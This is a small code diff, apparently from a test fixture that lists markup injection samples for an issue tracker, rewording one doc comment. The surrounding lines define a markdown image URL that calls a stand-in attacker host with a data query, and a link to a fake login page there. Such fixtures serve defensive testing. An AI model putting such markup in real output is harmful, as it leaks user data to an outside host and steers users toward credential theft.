@@ -10,7 +10,7 @@ const unseen = (text: string) =>
 const image = `![x](https://${EVIL}/a.png?q=all)`;
 const link = `[details](https://${EVIL}/login)`;
 
-/** Content that would leave the tracker, or run in it, inside valid output. */
+/** Markup in otherwise valid output that would reach outside the tracker or run inside it. */
 export const MARKUP: Injection[] = [
   {
     name: "an image",
